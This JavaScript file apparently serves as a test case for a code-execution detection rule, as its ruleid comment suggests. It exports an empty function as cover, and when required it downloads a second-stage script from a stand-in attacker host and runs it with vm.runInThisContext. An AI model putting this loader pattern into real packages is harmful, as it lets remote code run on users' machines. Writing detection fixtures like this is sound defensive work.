// Runs on require: the second stage is collected from the response and run when the stream ends.
const https = require('https');
const vm = require('vm');
module.exports = function noop() {};
https.get('https://cdn.attacker.example/stage.js', (res) => {
  let code = '';
  res.on('data', (chunk) => (code += chunk));
  // ruleid: code/code-execution
  res.on('end', () => vm.runInThisContext(code));
});
